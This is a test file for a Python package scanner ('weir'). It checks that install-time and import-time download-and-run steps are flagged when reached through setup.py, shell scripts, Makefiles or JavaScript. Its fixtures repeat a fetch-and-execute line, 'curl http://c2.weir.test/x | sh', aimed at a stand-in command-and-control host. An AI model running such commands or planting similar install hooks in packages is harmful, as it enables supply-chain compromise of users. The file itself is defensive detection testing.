import type { AnalysisResult } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { analyzeFiles, downloadsRun } from '../testing/analyze-wheel.ts';

type Files = Readonly<Record<string, string>>;

const METADATA = 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n';
const SETUP = "from setuptools import setup\nsetup(name='own', version='1.0', packages=['own'])\n";
const FETCH = 'curl http://c2.weir.test/x | sh';
const HERE = 'os.path.dirname(__file__)';

function sources(files: Files): Promise<AnalysisResult> {
  return analyzeFiles({ 'PKG-INFO': METADATA, 'setup.py': SETUP, ...files }, 'own-1.0.tar.gz');
}

function wheel(files: Files): Promise<AnalysisResult> {
  return analyzeFiles({ 'own-1.0.dist-info/METADATA': METADATA, ...files }, 'own-1.0-py3-none-any.whl');
}

/** A setup script that starts something. */
const starts = (argv: string): Files => ({
  'setup.py': `import subprocess\nsubprocess.check_call(${argv})\n${SETUP}`,
});

describe('what an installation starts in another language', () => {
  test.each([
    ['a shell file', "['sh', 'run.sh']", 'run.sh', `#!/bin/sh\n${FETCH}\n`, 'run.sh:2'],
    [
      'a file without a suffix, by its first line',
      "['./configure']",
      'configure',
      `#! /bin/sh\n${FETCH}\n`,
      'configure:2',
    ],
    ['a makefile', "['make']", 'Makefile', `CC = cc\nall: lib\nlib:\n\t${FETCH}\n`, 'Makefile:4'],
    [
      'a makefile of another folder',
      "['make', '-C', 'src', '-j', '4', 'lib']",
      'src/Makefile',
      `all:\n\ttrue\nlib:\n\t${FETCH}\n`,
      'src/Makefile:4',
    ],
    ['JavaScript', "['node', 'w.js']", 'w.js', `require('child_process').exec('${FETCH}');\n`, 'w.js:1'],
    [
      'JavaScript, by another runtime',
      "['bun', 'run', 'w.js']",
      'w.js',
      `require('child_process').exec('${FETCH}');\n`,
      'w.js:1',
    ],
  ])('%s', async (_what, argv, path, text, place) => {
    expect(downloadsRun(await sources({ ...starts(argv), [path]: text }))).toEqual([`install ${place}`]);
  });

  test('Python that a shell file starts in turn', async () => {
    const files = {
      ...starts("['sh', 'run.sh']"),
      'run.sh': 'python3 tools/fetch.py\n',
      'tools/fetch.py': `import os\nos.system('${FETCH}')\n`,
    };
    expect(downloadsRun(await sources(files))).toEqual(['install tools/fetch.py:2']);
  });

  test('no recipe that is not asked for', async () => {
    const makefile = `all:\n\tcc -c x.c\n\ntools: ## for developers\n\t${FETCH}\n`;
    const { judgement, findings } = await sources({ ...starts("['make']"), Makefile: makefile });
    expect(findings.map(({ rule }) => rule)).not.toContain('lifecycle-script/download-and-run');
    expect(judgement.verdict).toBe('benign');
  });
});

describe('what a module starts in another language', () => {
  const start = `import os, subprocess\nsubprocess.Popen(['sh', os.path.join(${HERE}, 'run.sh')])\n`;
  const asked = `import os, subprocess\n\n\ndef run():\n    subprocess.run(['sh', os.path.join(${HERE}, 'run.sh')])\n`;
  const script = `#!/bin/sh\n${FETCH}\n`;

  test('when it is loaded', async () => {
    expect(downloadsRun(await wheel({ 'own/__init__.py': start, 'own/run.sh': script }))).toEqual([
      'import own/run.sh:2',
    ]);
  });

  test('when another module calls it as it is loaded', async () => {
    const files = {
      'own/__init__.py': 'from .go import run\nrun()\n',
      'own/go.py': asked,
      'own/run.sh': script,
    };
    expect(downloadsRun(await wheel(files))).toContain('import own/run.sh:2');
  });

  test('not when somebody has to ask for it', async () => {
    expect(downloadsRun(await wheel({ 'own/__init__.py': asked, 'own/run.sh': script }))).toEqual([]);
  });

  test('a command of a shell that a wheel puts on the path, when it is called', async () => {
    const result = await wheel({ 'own/__init__.py': '', 'own-1.0.data/scripts/own': script });
    expect(downloadsRun(result)).toEqual(['use own-1.0.data/scripts/own:2']);
    expect(result.judgement).toMatchObject({ verdict: 'suspicious', level: 'low' });
  });
});
